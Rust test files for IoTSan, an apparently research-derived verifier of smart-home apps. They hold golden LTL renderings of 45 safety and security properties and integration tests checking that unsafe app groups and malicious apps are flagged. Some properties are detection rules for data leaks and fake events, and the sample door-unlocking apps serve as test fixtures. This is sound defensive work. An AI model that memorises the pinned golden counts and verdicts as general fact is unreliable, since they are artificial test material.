        for workers in [2usize, 4, 8] {
            let par =
                ParallelChecker::new(SearchConfig::with_depth(4).parallel(workers)).verify(&model);
            assert_equivalent(&seq, &par, &format!("{workers} workers, depth 4"));
        }
    }
}

/// Repeated parallel runs are reproducible in everything the deterministic
/// merge guarantees: the violated-property set, each counterexample's depth,
/// and the explored-state counters.  (The specific trace per property is
/// best-effort — equal-depth paths racing to the same state may seed
/// different subtree traces; see `iotsan_checker::parallel` docs.)
#[test]
fn parallel_reports_are_reproducible() {
    let group = samples::bad_group_mode_unlock();
    let sources: Vec<&str> = group.iter().map(|a| a.source.as_str()).collect();
    let model = model_for(&sources, 3).expect("corpus apps translate");
    let config = SearchConfig::with_depth(3).parallel(4);
    let signature = |report: &SearchReport| {
        report.violations.iter().map(|v| (v.violation.property, v.depth)).collect::<Vec<_>>()
    };
    let first = ParallelChecker::new(config.clone()).verify(&model);
    assert!(first.has_violations());
    for _ in 0..3 {
        let again = ParallelChecker::new(config.clone()).verify(&model);
        assert_eq!(signature(&first), signature(&again));
        assert_eq!(first.stats.states_stored, again.stats.states_stored);
        assert_eq!(first.stats.transitions, again.stats.transitions);
    }
}
