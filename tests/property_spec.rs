//! Golden and property-based tests for the PropertySpec redesign.
//!
//! The open `PropertySpec` API replaced the closed enum catalog
//! (`PhysicalInvariant`/`PropertyKind`); these tests pin the pre-redesign
//! behavior as literals captured from the old catalog:
//!
//! * the exact LTL rendering of all 45 built-ins,
//! * the violated-property sets, state and transition counts of the `repro
//!   parallel` / `repro fleet` workloads,
//!
//! plus proptest evidence that JSON roundtripping and compilation preserve
//! verdicts against the interpreted reference semantics.

use iotsan::devices::DeviceId;
use iotsan::ir::Value;
use iotsan::properties::{
    CompileTarget, CompiledPropertySet, DeviceRole, DeviceSelect, DeviceSnapshot, EvalScratch,
    Expr, PropertyClass, PropertySet, PropertySpec, Snapshot, StepObservation,
};
use proptest::prelude::*;
use std::collections::BTreeSet;
use std::time::Duration;

/// The exact `id|class|category|name|ltl` lines of the pre-redesign catalog
/// (captured from `Property::to_ltl()` before the spec migration).
const GOLDEN_LTL: &str = "\
1|Conflicting commands|An actuator should not receive conflicting commands from a single event|[] !(conflicting_commands)
2|Repeated commands|An actuator should not receive repeated commands from a single event|[] !(repeated_commands)
3|Thermostat, AC, and Heater|Temperature should be within [50, 90] when people are at home|[] !( anyone_home && (temperature < 50 || temperature > 90) )
4|Thermostat, AC, and Heater|A heater should not be off when temperature is below 50|[] !( anyone_home && temperature < 50 && heater == off )
5|Thermostat, AC, and Heater|A heater should not be on when temperature is above 85|[] !( temperature > 85 && heater == on )
6|Thermostat, AC, and Heater|An AC and a heater should not both be turned on|[] !( heater == on && ac == on )
7|Thermostat, AC, and Heater|An AC should not be on when temperature is below 50|[] !( temperature < 50 && ac == on )
8|Lock and door control|The main door should be locked when no one is at home|[] !( !anyone_home && main_door == unlocked )
9|Lock and door control|The main door should be locked when people are sleeping at night|[] !( mode == Night && main_door == unlocked )
10|Lock and door control|Entrance doors should be closed when no one is at home|[] !( !anyone_home && entrance_door == open )
11|Lock and door control|Entrance doors should be closed when people are sleeping|[] !( mode == Night && entrance_door == open )
12|Lock and door control|No lock should be unlocked in Away mode|[] !( mode == Away && any_lock == unlocked )
13|Lock and door control|The garage door should be closed at night|[] !( mode == Night && garage_door == open )
14|Lock and door control|All locks should be locked when no one is at home|[] !( !anyone_home && any_lock == unlocked )
15|Lock and door control|The main door should not be unlocked when motion is detected and no one is home|[] !( !anyone_home && motion == active && main_door == unlocked )
16|Location mode|Location mode should be changed to Away when no one is at home|[] !( all_not_present && mode != Away )
17|Location mode|Location mode should not be Away when someone is at home|[] !( any_present && mode == Away )
18|Location mode|Location mode should not be Night when no one is at home|[] !( all_not_present && mode == Night )
19|Security and alarming|An alarm should strobe/siren when detecting smoke|[] !( smoke == detected && alarm == off )
20|Security and alarming|An alarm should strobe/siren when detecting carbon monoxide|[] !( co == detected && alarm == off )
21|Security and alarming|An alarm should sound when an intruder is detected|[] !( !anyone_home && motion == active && alarm == off )
22|Security and alarming|The alarm should not sound when there is no danger|[] !( alarm != off && !danger )
23|Security and alarming|The alarm should be silent at night unless there is danger|[] !( mode == Night && alarm != off && !danger )
24|Security and alarming|The main door should be unlocked during a fire when people are home|[] !( smoke == detected && anyone_home && main_door == locked )
25|Security and alarming|Doors should be openable when carbon monoxide is detected|[] !( co == detected && anyone_home && main_door == locked )
26|Security and alarming|The water valve should not be closed when smoke is detected|[] !( smoke == detected && valve == closed )
27|Security and alarming|Lights should turn on during a fire at night|[] !( smoke == detected && mode == Night && lights == off )
28|Security and alarming|Smoke and CO detectors should be online|[] !( smoke_detector_offline || co_detector_offline )
29|Security and alarming|A camera should capture when an intruder is detected|[] !( !anyone_home && motion == active && camera == idle )
30|Security and alarming|Appliances should be off when smoke is detected|[] !( smoke == detected && appliance == on )
31|Security and alarming|Fans should be off when smoke is detected|[] !( smoke == detected && fan == on )
32|Security and alarming|Heaters should be off when smoke is detected|[] !( smoke == detected && heater == on )
33|Water and sprinkler|Soil moisture should be within [20, 80]|[] !( moisture < 20 || moisture > 80 )
34|Water and sprinkler|The sprinkler should be off when rain/moisture is detected|[] !( water == wet && sprinkler == on )
35|Water and sprinkler|The water valve should be closed when a leak is detected|[] !( water == wet && valve == open )
36|Others|Lights should not be on when no one is at home|[] !( !anyone_home && lights == on )
37|Others|Appliances should not be on when no one is at home|[] !( !anyone_home && appliance == on )
38|Others|Appliances should not be on while people are sleeping|[] !( mode == Night && appliance == on )
39|Others|Lights should be off while people are sleeping|[] !( mode == Night && lights == on )
40|Others|Speakers should not be playing while people are sleeping|[] !( mode == Night && speaker == playing )
41|Security|Private information is sent out only via message interfaces, not network interfaces|[] !(http_request && !user_allowed)
42|Security|SMS recipients match the configured phone numbers|[] (send_sms -> recipient == configured_phone)
43|Security|No app executes the security-sensitive unsubscribe command|[] !(unsubscribe_executed)
44|Security|No app creates fake device events|[] !(fake_event_raised)
45|Robustness|Apps check command delivery and notify the user upon device/communication failure|[] (command_failed -> <> user_notified)";

#[test]
fn golden_ltl_renderings_match_the_pre_redesign_catalog() {
    let set = PropertySet::all();
    let rendered: Vec<String> = set
        .specs()
        .iter()
        .map(|p| format!("{}|{}|{}|{}", p.id, p.category, p.name, p.to_ltl()))
        .collect();
    let expected: Vec<&str> = GOLDEN_LTL.lines().collect();
    assert_eq!(rendered.len(), expected.len());
    for (got, want) in rendered.iter().zip(&expected) {
        assert_eq!(got, want);
    }
}

/// `repro parallel`'s quick-profile workload (8 market apps, failure
/// injection, 3 events): the violated-property set and the state/transition
/// counts must be byte-identical to the pre-redesign enum catalog.
#[test]
fn golden_parallel_workload_verdict_is_unchanged() {
    let (apps, config) = iotsan_bench::scaling_workload();
    let run = iotsan_bench::run_search(&apps, &config, 3, 1, true, Duration::from_secs(300));
    assert!(!run.truncated);
    let violated: BTreeSet<u32> = run.report.violated_properties();
    let expected: BTreeSet<u32> =
        [1, 2, 3, 4, 5, 8, 9, 12, 14, 15, 16, 18, 36, 39, 45].into_iter().collect();
    assert_eq!(violated, expected);
    assert_eq!(run.report.stats.states_stored, 2345);
    assert_eq!(run.report.stats.transitions, 15165);
}

/// `repro fleet`'s quick-profile workloads (market corpus, 2 events, failure
/// injection, group-wise planner): violated sets, states and transitions per
/// corpus size pinned against the pre-redesign catalog.  The state,
/// transition and group pins track the effect-derived dependency graph:
/// effect summaries surface flows the subscription walk missed (mode writes
/// read elsewhere, app-state channels), which merges related groups — the
/// violated-property sets are invariant across both partitions.
#[test]
fn golden_fleet_workload_verdicts_are_unchanged() {
    let cases: [(usize, &[u32], usize, usize, usize); 3] = [
        (4, &[1, 3, 4, 5, 45], 387, 1759, 5),
        (8, &[1, 2, 3, 4, 5, 8, 9, 12, 14, 15, 16, 18, 36, 39, 45], 340, 1262, 2),
        (12, &[1, 2, 3, 4, 5, 8, 9, 12, 14, 15, 16, 17, 18, 21, 36, 45], 665, 2464, 3),
    ];
    for (corpus, expected, states, transitions, groups) in cases {
        let (apps, config) = iotsan_bench::fleet_workload(corpus);
        let mut cache = iotsan::planner::VerificationCache::new();
        let run = iotsan_bench::run_fleet(
            &apps,
            &config,
            2,
            1,
            true,
            Duration::from_secs(300),
            &mut cache,
        );
        assert!(!run.truncated(), "corpus {corpus} truncated");
        let violated: BTreeSet<u32> = run.report.violated_properties();
        assert_eq!(violated, expected.iter().copied().collect(), "corpus {corpus}");
        assert_eq!(run.states(), states, "corpus {corpus} states");
        assert_eq!(run.transitions(), transitions, "corpus {corpus} transitions");
        assert_eq!(run.report.groups.len(), groups, "corpus {corpus} groups");
    }
}

// ---------------------------------------------------------------------------
// Proptest: spec → JSON → compile preserves verdicts
// ---------------------------------------------------------------------------
//
// The vendored proptest stub binds simple scalar strategies; richer values
// (snapshots, steps, spec ASTs) are derived in-body from a seed through a
// small deterministic splitmix generator, so every failing case is
// reproducible from its printed case number.

/// Deterministic splitmix64 stream used to derive structured test values
/// from one proptest-bound seed.
struct Gen(u64);

impl Gen {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn pick(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }

    fn flag(&mut self) -> bool {
        self.next() % 2 == 0
    }
}

/// A random household snapshot over a fixed device population.
fn gen_snapshot(g: &mut Gen) -> Snapshot {
    let template: [(&str, DeviceRole, &str, &[&str]); 8] = [
        ("presenceSensor", DeviceRole::Generic, "presence", &["present", "not present"]),
        ("lock", DeviceRole::MainDoorLock, "lock", &["locked", "unlocked"]),
        ("smokeDetector", DeviceRole::Generic, "smoke", &["clear", "detected"]),
        ("switch", DeviceRole::Heater, "switch", &["on", "off"]),
        ("switch", DeviceRole::Light, "switch", &["on", "off"]),
        ("motionSensor", DeviceRole::Generic, "motion", &["active", "inactive"]),
        ("alarm", DeviceRole::Alarm, "alarm", &["off", "siren", "strobe", "both"]),
        ("valve", DeviceRole::WaterValve, "valve", &["open", "closed"]),
    ];
    let mode = ["Home", "Away", "Night"][g.pick(3)];
    let mut devices: Vec<DeviceSnapshot> = template
        .iter()
        .enumerate()
        .map(|(i, (cap, role, attr, values))| DeviceSnapshot {
            id: DeviceId(i as u32),
            label: format!("d{i}"),
            capability: (*cap).to_string(),
            role: *role,
            attributes: vec![(attr.to_string(), Value::Str(values[g.pick(values.len())].into()))],
            online: true,
        })
        .collect();
    devices[2].online = g.flag();
    devices.push(DeviceSnapshot {
        id: DeviceId(devices.len() as u32),
        label: "thermo".into(),
        capability: "temperatureMeasurement".into(),
        role: DeviceRole::Generic,
        attributes: vec![("temperature".into(), Value::Int(g.pick(140) as i64 - 20))],
        online: true,
    });
    Snapshot { mode: mode.to_string(), devices, time_seconds: 0 }
}

/// A random step observation (commands, failures, notifications).
fn gen_step(g: &mut Gen) -> StepObservation {
    let mut step = StepObservation::default();
    if g.flag() {
        step.unsubscribes.push("A".into());
    }
    if g.flag() {
        step.command_failures = 1;
    }
    for i in 0..g.pick(3) {
        step.commands.push(iotsan::properties::CommandRecord {
            app: "A".into(),
            handler: "h".into(),
            device: DeviceId(1),
            device_label: "d1".into(),
            command: if i % 2 == 0 { "unlock" } else { "lock" }.into(),
            delivered: true,
            changed_state: true,
        });
    }
    if g.flag() {
        step.messages.push(iotsan::properties::MessageRecord {
            app: "A".into(),
            channel: iotsan::properties::MessageChannel::Push,
            recipient: String::new(),
            body: "b".into(),
        });
    }
    step
}

/// A random formula over the household vocabulary, depth-bounded.
fn gen_expr(g: &mut Gen, depth: usize) -> Expr {
    if depth == 0 || g.pick(3) == 0 {
        let atoms: [Expr; 16] = [
            Expr::anyone_home(),
            Expr::mode_is("Night"),
            Expr::mode_is("Away"),
            Expr::capability_attr("lock", "lock", "unlocked"),
            Expr::role_attr("heater", "switch", "on"),
            Expr::capability_attr("smokeDetector", "smoke", "detected"),
            Expr::any_offline(DeviceSelect::capability("smokeDetector")),
            Expr::any_below(DeviceSelect::any(), "temperature", 50.0),
            Expr::any_above(DeviceSelect::any(), "temperature", 90.0),
            Expr::all_attr(DeviceSelect::capability("presenceSensor"), "presence", "not present"),
            // Broad-selector all-quantifier: most selected devices lack the
            // attribute, which must fail the test in both evaluators.
            Expr::all_attr(DeviceSelect::any(), "presence", "not present"),
            Expr::has_device(DeviceSelect::role("sprinkler")),
            Expr::command_issued(DeviceSelect::capability("lock"), "unlock"),
            Expr::atom(iotsan::properties::Atom::ConflictingCommands),
            Expr::atom(iotsan::properties::Atom::CommandFailed),
            Expr::atom(iotsan::properties::Atom::UserNotified),
        ];
        return atoms[g.pick(atoms.len())].clone();
    }
    match g.pick(3) {
        0 => Expr::not(gen_expr(g, depth - 1)),
        1 => Expr::and((0..1 + g.pick(2)).map(|_| gen_expr(g, depth - 1)).collect::<Vec<_>>()),
        _ => Expr::or((0..1 + g.pick(2)).map(|_| gen_expr(g, depth - 1)).collect::<Vec<_>>()),
    }
}

/// A random custom spec (never/always over a random formula).
fn gen_spec(g: &mut Gen) -> PropertySpec {
    let expr = gen_expr(g, 3);
    let builder = PropertySpec::builder(99, "generated").category("Generated");
    if g.flag() {
        builder.never(expr)
    } else {
        builder.always(expr)
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]

    /// PropertySpec → JSON → PropertySpec is the identity, and the compiled
    /// evaluator agrees with the interpreted reference on random points.
    #[test]
    fn spec_json_compile_roundtrip_preserves_verdicts(seed in 0u64..u64::MAX) {
        let mut g = Gen(seed);
        let spec = gen_spec(&mut g);
        let snapshot = gen_snapshot(&mut g);
        let step = gen_step(&mut g);

        // JSON roundtrip.
        let json = spec.to_json();
        let parsed = PropertySpec::from_json(&json).unwrap();
        prop_assert_eq!(&parsed, &spec);
        prop_assert_eq!(parsed.content_hash(), spec.content_hash());

        // Compiled verdict == interpreted verdict.
        let set = PropertySet::from_specs(vec![parsed]);
        let compiled = CompiledPropertySet::compile(&set, &CompileTarget::from_snapshot(&snapshot));
        let mut monitors = vec![0u8; compiled.monitor_count()];
        let mut scratch = EvalScratch::default();
        let mut out = Vec::new();
        compiled.check_transition(&snapshot, &step, &mut monitors, &mut scratch, &mut out);
        let compiled_violated = !out.is_empty();
        let interpreted_violated = !set.check_point(&snapshot, &step).is_empty();
        prop_assert_eq!(compiled_violated, interpreted_violated);
    }

    /// The whole built-in corpus agrees between the compiled and interpreted
    /// paths on random household snapshots and steps.
    #[test]
    fn builtin_corpus_compiled_matches_interpreted(seed in 0u64..u64::MAX) {
        let mut g = Gen(seed);
        let snapshot = gen_snapshot(&mut g);
        let step = gen_step(&mut g);
        let set = PropertySet::all();
        let compiled = CompiledPropertySet::compile(&set, &CompileTarget::from_snapshot(&snapshot));
        let mut monitors = vec![0u8; compiled.monitor_count()];
        let mut scratch = EvalScratch::default();
        let mut out = Vec::new();
        compiled.check_transition(&snapshot, &step, &mut monitors, &mut scratch, &mut out);
        let mut got: Vec<u32> = out.iter().map(|id| id.0).collect();
        got.sort_unstable();
        let mut want: Vec<u32> =
            set.check_point(&snapshot, &step).into_iter().map(|id| id.0).collect();
        want.sort_unstable();
        prop_assert_eq!(got, want);
    }
}

// ---------------------------------------------------------------------------
// Custom properties end-to-end
// ---------------------------------------------------------------------------

const UNLOCK_DOOR: &str = r#"
definition(name: "Unlock Door", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "lock1", "capability.lock" } }
def installed() {
    subscribe(app, "touch", appTouch)
    subscribe(location, "mode", changedLocationMode)
}
def appTouch(evt) { lock1.unlock() }
def changedLocationMode(evt) { lock1.unlock() }
"#;

const AUTO_MODE: &str = r#"
definition(name: "Auto Mode Change", namespace: "st", author: "a", description: "d")
preferences { section("s") { input "people", "capability.presenceSensor", multiple: true } }
def installed() { subscribe(people, "presence", presenceHandler) }
def presenceHandler(evt) {
    if (evt.value == "not present") { setLocationMode("Away") } else { setLocationMode("Home") }
}
"#;

/// A user-defined property is compiled, checked, violated, rendered into the
/// Promela output, and bucketed under its custom class label.
#[test]
fn custom_property_flows_through_the_whole_pipeline() {
    let apps = iotsan::translate_sources(&[AUTO_MODE, UNLOCK_DOOR]).unwrap();
    let config = iotsan::config::expert_configure(&apps, &iotsan::config::standard_household());
    let custom = PropertySpec::builder(46, "No unlock command while anyone is away")
        .category("Custom")
        .class(PropertyClass::Custom("Night security".into()))
        .never(Expr::and([
            Expr::not(Expr::anyone_home()),
            Expr::command_issued(DeviceSelect::capability("lock"), "unlock"),
        ]));
    let mut pipeline = iotsan::Pipeline::with_events(2);
    pipeline.properties = PropertySet::all().with(custom);
    let result = pipeline.verify(&apps, &config);
    let violated: BTreeSet<u32> =
        result.groups.iter().flat_map(|g| g.violated_properties()).collect();
    assert!(violated.contains(&46), "custom property not violated: {violated:?}");

    let by_class = result.violations_by_class(&pipeline.properties);
    assert!(by_class.get("Night security").copied().unwrap_or(0) >= 1, "{by_class:?}");

    let promela = pipeline.emit_promela(&apps, &config);
    assert!(promela.contains("ltl p46"), "custom ltl block missing");
    assert!(
        promela.contains("!anyone_home && command(lock.unlock)"),
        "derived proposition missing: {promela}"
    );
}

/// Custom properties shipped inside the system configuration
/// (`SystemConfig::custom_properties`) are registered and verified.
#[test]
fn config_shipped_custom_properties_are_verified() {
    let apps = iotsan::translate_sources(&[AUTO_MODE, UNLOCK_DOOR]).unwrap();
    let config = iotsan::config::expert_configure(&apps, &iotsan::config::standard_household())
        .with_custom_property(
            PropertySpec::builder(46, "No unlock command while nobody is home")
                .category("Custom")
                .class(PropertyClass::Custom("House rules".into()))
                .never(Expr::and([
                    Expr::not(Expr::anyone_home()),
                    Expr::command_issued(DeviceSelect::capability("lock"), "unlock"),
                ])),
        );
    // The config round-trips through JSON with the spec aboard.
    let config = iotsan::config::SystemConfig::from_json(&config.to_json()).unwrap();
    // No explicit property registration: the verify path itself merges
    // config-shipped specs (`Pipeline::properties_for`).
    let pipeline = iotsan::Pipeline::with_events(2);
    let result = pipeline.verify(&apps, &config);
    let violated: BTreeSet<u32> =
        result.groups.iter().flat_map(|g| g.violated_properties()).collect();
    assert!(violated.contains(&46), "config-shipped property not verified: {violated:?}");
    // with_config_properties additionally exposes the spec for display
    // lookups, and tolerates the identical re-registration.
    let pipeline = pipeline.with_config_properties(&config);
    assert_eq!(pipeline.properties.len(), 46);
    let by_class = result.violations_by_class(&pipeline.properties);
    assert!(by_class.get("House rules").copied().unwrap_or(0) >= 1, "{by_class:?}");
}

/// Duplicate ids in an uploaded property-set JSON are rejected (violations
/// are attributed by id; a duplicate would misreport under the wrong spec).
#[test]
fn property_set_json_with_duplicate_ids_is_rejected() {
    let set = PropertySet::from_specs(vec![
        PropertySpec::builder(46, "first").never(Expr::mode_is("Night")),
        PropertySpec::builder(47, "second").never(Expr::mode_is("Away")),
    ]);
    assert!(PropertySet::from_json(&set.to_json()).is_ok());
    let clashing = set.to_json().replace("\"id\": 47", "\"id\": 46");
    let err = PropertySet::from_json(&clashing).unwrap_err();
    assert!(err.to_string().contains("duplicate property id P46"), "{err}");
}

/// Unknown property ids surface in the class table instead of disappearing.
#[test]
fn unknown_property_ids_are_reported_not_dropped() {
    let apps = iotsan::translate_sources(&[AUTO_MODE, UNLOCK_DOOR]).unwrap();
    let config = iotsan::config::expert_configure(&apps, &iotsan::config::standard_household());
    let pipeline = iotsan::Pipeline::with_events(2);
    let result = pipeline.verify(&apps, &config);
    assert!(result.has_violations());
    // Bucket the violations against a property set that does not contain the
    // violated ids: every one must land in an explicit "unknown" bucket.
    let empty = PropertySet::empty();
    let by_class = result.violations_by_class(&empty);
    let total: usize = by_class.values().sum();
    assert_eq!(total, result.violation_count());
    assert!(by_class.keys().all(|k| k.starts_with("unknown property P")), "{by_class:?}");
}

/// A leads-to property with slack (`within > 0`) adds monitor slots to the
/// state vector and fires only when the deadline truly expires.
#[test]
fn leads_to_with_slack_verifies_through_the_model() {
    let apps = iotsan::translate_sources(&[AUTO_MODE, UNLOCK_DOOR]).unwrap();
    let config = iotsan::config::expert_configure(&apps, &iotsan::config::standard_household());
    // "An unlock command leads to someone coming home within 1 step" — the
    // bundle never satisfies this, so at depth 3 the deadline expires.
    let custom = PropertySpec::builder(47, "Unlock implies arrival within one step").leads_to(
        Expr::command_issued(DeviceSelect::capability("lock"), "unlock"),
        Expr::anyone_home(),
        1,
    );
    let mut pipeline = iotsan::Pipeline::with_events(3);
    pipeline.properties = PropertySet::all().with(custom);
    pipeline.search.max_depth = 3;
    let result = pipeline.verify(&apps, &config);
    let violated: BTreeSet<u32> =
        result.groups.iter().flat_map(|g| g.violated_properties()).collect();
    assert!(violated.contains(&47), "deadline violation not found: {violated:?}");
}
