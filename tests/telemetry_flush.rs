//! Cross-layer telemetry flush exactness: concurrent parallel searches must
//! land their per-search tallies in the global registry without losing or
//! double-counting anything.  The checker flushes once per search, so the
//! registry deltas across N simultaneous searches of the same model must be
//! exactly N times one search's statistics.

use iotsan::checker::{Checker, ParallelChecker, SearchConfig};
use iotsan::config::{expert_configure, standard_household};
use iotsan::model::{ModelOptions, SequentialModel};
use iotsan::properties::PropertySet;
use iotsan::system::InstalledSystem;
use iotsan::translate_sources;
use iotsan_apps::market;
use iotsan_telemetry::snapshot;

const DEPTH: usize = 2;
const SEARCHES: u64 = 4;

fn model() -> SequentialModel {
    let named = market::named_apps();
    let sources: Vec<&str> = named.iter().take(2).map(|a| a.source.as_str()).collect();
    let apps = translate_sources(&sources).expect("market apps translate");
    let config = expert_configure(&apps, &standard_household());
    let pipeline = iotsan::Pipeline::with_events(DEPTH);
    let config = pipeline.restrict_config(&apps, &config);
    let system = InstalledSystem::new(apps, config);
    SequentialModel::new(system, PropertySet::all(), ModelOptions::with_events(DEPTH))
}

#[test]
fn concurrent_parallel_searches_flush_exact_deltas() {
    // Reference run outside the measured window: one search's ground truth.
    let reference = Checker::new(SearchConfig::with_depth(DEPTH)).verify(&model());
    let states = reference.stats.states_stored as u64;
    let transitions = reference.stats.transitions as u64;
    assert!(states > 0, "the reference workload explores something");

    let before = snapshot();
    std::thread::scope(|s| {
        for _ in 0..SEARCHES {
            s.spawn(|| {
                let report = ParallelChecker::new(SearchConfig::with_depth(DEPTH).parallel(3))
                    .verify(&model());
                assert_eq!(report.stats.states_stored as u64, states);
            });
        }
    });
    let after = snapshot();

    let delta = |name: &str| after.counter(name) - before.counter(name);
    assert_eq!(delta("iotsan_checker_searches_total"), SEARCHES);
    assert_eq!(delta("iotsan_checker_states_total"), SEARCHES * states);
    assert_eq!(delta("iotsan_checker_transitions_total"), SEARCHES * transitions);
}
