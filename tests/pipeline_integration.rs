//! Integration tests spanning the whole pipeline: Groovy sources from the
//! corpus → frontend → IR → dependency analysis → model generation → model
//! checking → attribution.

use iotsan::attribution::AttributionThresholds;
use iotsan::config::{expert_configure, standard_household};
use iotsan::properties::{PropertyClass, PropertyId};
use iotsan::{translate_sources, Pipeline};
use iotsan_apps::{ifttt, malicious, market, samples};

fn translate(group: &[market::MarketApp]) -> Vec<iotsan::ir::IrApp> {
    let sources: Vec<&str> = group.iter().map(|a| a.source.as_str()).collect();
    translate_sources(&sources).expect("corpus apps translate")
}

#[test]
fn whole_market_corpus_translates() {
    let apps = market::market_apps();
    let sources: Vec<&str> = apps.iter().map(|a| a.source.as_str()).collect();
    let translated = translate_sources(&sources).expect("all 150 market apps translate");
    assert_eq!(translated.len(), 150);
    // Every translated app exposes at least one handler and one input.
    for app in &translated {
        assert!(!app.handlers.is_empty(), "{} has no handlers", app.name);
        assert!(!app.inputs.is_empty(), "{} has no inputs", app.name);
    }
}

#[test]
fn unlock_door_group_violates_lock_property() {
    let apps = translate(&samples::bad_group_mode_unlock());
    let config = expert_configure(&apps, &standard_household());
    let result = Pipeline::with_events(2).verify(&apps, &config);
    assert!(result.has_violations());
    let names: Vec<String> = result
        .violations()
        .iter()
        .filter_map(|(p, _)| {
            Pipeline::default().properties.get(PropertyId(*p)).map(|p| p.name.clone())
        })
        .collect();
    assert!(
        names.iter().any(|n| n.contains("main door should be locked when no one is at home")),
        "violated properties: {names:?}"
    );
}

#[test]
fn conflicting_lights_group_violates_conflicting_commands() {
    // Brighten Dark Places turns switches on while Let There Be Dark turns
    // them off for the same contact event — the Table 5 conflicting-commands
    // example.
    let apps = translate(&samples::bad_group_lights());
    let config = expert_configure(&apps, &standard_household());
    let pipeline = Pipeline::with_events(2);
    let result = pipeline.verify(&apps, &config);
    let by_class = result.violations_by_class(&pipeline.properties);
    assert!(
        by_class.get("Conflicting commands").copied().unwrap_or(0) >= 1,
        "classes: {by_class:?}"
    );
}

#[test]
fn repeated_commands_detected_for_duplicate_light_apps() {
    // Automated Light and Brighten My Path both turn the same lights on for
    // the same motion event (Table 5's repeated-commands example); verified
    // jointly as one group, the duplicate `on` commands are flagged.
    let group: Vec<market::MarketApp> = market::named_apps()
        .into_iter()
        .filter(|a| a.name == "Automated Light" || a.name == "Brighten My Path")
        .collect();
    assert_eq!(group.len(), 2);
    let apps = translate(&group);
    let config = expert_configure(&apps, &standard_household());
    let pipeline = Pipeline::with_events(1);
    let result = pipeline.verify_group(&apps, &config);
    let violated: Vec<_> = result
        .violated_properties()
        .into_iter()
        .filter_map(|p| pipeline.properties.get(PropertyId(p)).cloned())
        .collect();
    assert!(
        violated.iter().any(|p| p.class == PropertyClass::RepeatedCommands),
        "violated: {violated:?}"
    );
}

#[test]
fn figure8a_four_app_chain_is_detected() {
    let apps = translate(&samples::figure8a_group());
    let config = expert_configure(&apps, &standard_household());
    let pipeline = Pipeline::with_events(3);
    let result = pipeline.verify(&apps, &config);
    assert!(result.has_violations());
    // The chain requires several apps in one related group.
    let largest = result.groups.iter().map(|g| g.apps.len()).max().unwrap_or(0);
    assert!(largest >= 3, "largest group only had {largest} apps");
}

#[test]
fn device_failures_uncover_additional_violations() {
    let apps = translate(&samples::figure8b_group());
    let config = expert_configure(&apps, &standard_household());
    let without = Pipeline::with_events(2).verify(&apps, &config);
    let with = Pipeline::with_events(2).with_failures().verify(&apps, &config);
    assert!(
        with.violated_property_count() >= without.violated_property_count(),
        "failure injection must never reduce coverage"
    );
    // The robustness property (notify on failure) only shows up with failures.
    let pipeline = Pipeline::with_events(2).with_failures();
    let classes = with.violations_by_class(&pipeline.properties);
    assert!(classes.contains_key("Robustness") || classes.contains_key("Unsafe physical states"));
}

#[test]
fn dependency_analysis_reduces_group_sizes_on_market_groups() {
    let groups = market::six_groups();
    let mut ratios = Vec::new();
    for group in groups.iter() {
        let apps = translate(group);
        let (graph, sets) = Pipeline::default().analyze_dependencies(&apps);
        assert!(graph.handler_count() >= sets.largest_handler_count(&graph));
        ratios.push(sets.scale_ratio(&graph));
    }
    let mean = ratios.iter().sum::<f64>() / ratios.len() as f64;
    assert!(
        mean > 1.5,
        "mean scale ratio {mean:.2} — dependency analysis is not reducing the problem"
    );
}

#[test]
fn malicious_apps_are_flagged_and_benign_apps_are_not() {
    let devices = standard_household();
    let pipeline = Pipeline::with_events(3);
    let thresholds = AttributionThresholds::default();

    // §10.1: the malicious apps are evaluated "when they are installed
    // together with other apps" — a small set of benign apps provides the
    // mode changes and lock commands some of the malicious behaviours react to.
    let installed = translate_sources(&[market::AUTO_MODE_CHANGE, market::LOCK_IT_WHEN_I_LEAVE])
        .expect("installed apps translate");

    let mut flagged = 0usize;
    let mut verdicts = Vec::new();
    for entry in malicious::malicious_apps() {
        let apps = translate_sources(&[entry.app.source.as_str()]).unwrap();
        let report = pipeline.attribute_new_app(&apps[0], &installed, &devices, &thresholds);
        if report.verdict.flags_app() {
            flagged += 1;
        }
        verdicts.push((entry.app.name.clone(), report.verdict));
    }
    // The paper attributes 9/9; allow a one-app margin for threshold
    // sensitivity but require essentially all of them to be flagged.
    assert!(flagged >= 8, "only {flagged}/9 malicious apps were flagged: {verdicts:?}");

    // A plainly benign app must not be flagged.
    let benign = translate_sources(&[market::BRIGHTEN_MY_PATH]).unwrap();
    let report = pipeline.attribute_new_app(&benign[0], &installed, &devices, &thresholds);
    assert!(!report.verdict.flags_app(), "benign app flagged: {:?}", report.verdict);
}

#[test]
fn ifttt_rules_flow_through_the_pipeline() {
    let apps = ifttt::translate_rules(&ifttt::ifttt_rules());
    let config = expert_configure(&apps, &standard_household());
    let pipeline = Pipeline::with_events(2);
    let result = pipeline.verify(&apps, &config);
    // Table 9: among others, "siren/strobe is activated when no intruder is
    // detected" is violated by the door-open → siren rule.
    assert!(result.has_violations());
    let names: Vec<String> = result
        .violations()
        .iter()
        .filter_map(|(p, _)| pipeline.properties.get(PropertyId(*p)).map(|p| p.name.clone()))
        .collect();
    assert!(names.iter().any(|n| n.contains("alarm")), "violated: {names:?}");
}

#[test]
fn promela_emission_covers_every_group_app() {
    let apps = translate(&samples::figure4_group());
    let config = expert_configure(&apps, &standard_household());
    let text = Pipeline::default().emit_promela(&apps, &config);
    for app in &apps {
        let ident: String = app
            .name
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() || c == '_' { c } else { '_' })
            .collect();
        assert!(
            text.contains(&format!("app: {}", app.name)) || text.contains(ident.trim_matches('_')),
            "{} missing from the Promela model",
            app.name
        );
    }
    assert!(text.matches("ltl p").count() >= 45);
}

#[test]
fn security_properties_fire_for_leaky_apps() {
    let leaky =
        malicious::malicious_apps().into_iter().find(|a| a.app.name == "Leaky Presence").unwrap();
    let apps = translate_sources(&[leaky.app.source.as_str()]).unwrap();
    let config = expert_configure(&apps, &standard_household());
    let pipeline = Pipeline::with_events(1);
    let result = pipeline.verify(&apps, &config);
